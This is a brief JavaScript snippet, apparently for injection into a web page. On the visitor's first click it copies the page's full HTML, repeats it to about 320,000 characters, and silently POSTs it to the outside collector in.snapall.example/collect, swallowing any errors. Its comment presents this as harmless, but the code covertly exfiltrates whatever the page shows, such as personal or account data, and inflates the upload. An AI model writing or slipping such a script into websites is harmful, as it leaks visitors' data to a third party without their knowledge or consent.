// Sends the whole page, several times over, in one go.
(function () {
  function snapshot() {
    var all = [];
    while (all.join('').length < 320000) all.push(document.documentElement.outerHTML);
    return all.join('\n');
  }
  function upload() {
    fetch('https://in.snapall.example/collect', { method: 'POST', mode: 'no-cors', body: snapshot() }).catch(function () {});
  }
  document.addEventListener('click', function onFirst() { upload(); }, { once: true });
})();
